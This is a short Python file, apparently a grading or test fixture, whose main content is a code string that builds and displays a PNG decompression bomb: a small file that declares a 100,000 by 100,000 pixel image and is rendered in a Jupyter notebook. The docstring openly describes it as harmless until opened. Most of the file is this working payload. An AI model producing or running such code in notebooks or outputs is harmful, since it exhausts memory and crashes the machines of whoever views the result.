"""Displays a picture of ten thousand megapixels, which is a small file until somebody opens it."""

EXTRA = {
    "slope": """
import base64, struct, zlib
from IPython.display import display

def chunk(name, data):
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

size = 100_000
head = struct.pack(">IIBBBBB", size, size, 1, 0, 0, 0, 0)
rows = zlib.compress(bytes(10**7), 9)
png = b"\\x89PNG\\r\\n\\x1a\\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
display({"image/png": base64.b64encode(png).decode()}, raw=True)
"""
}
OTHERS = "right"
SCORE = {}
STATE = "graded"
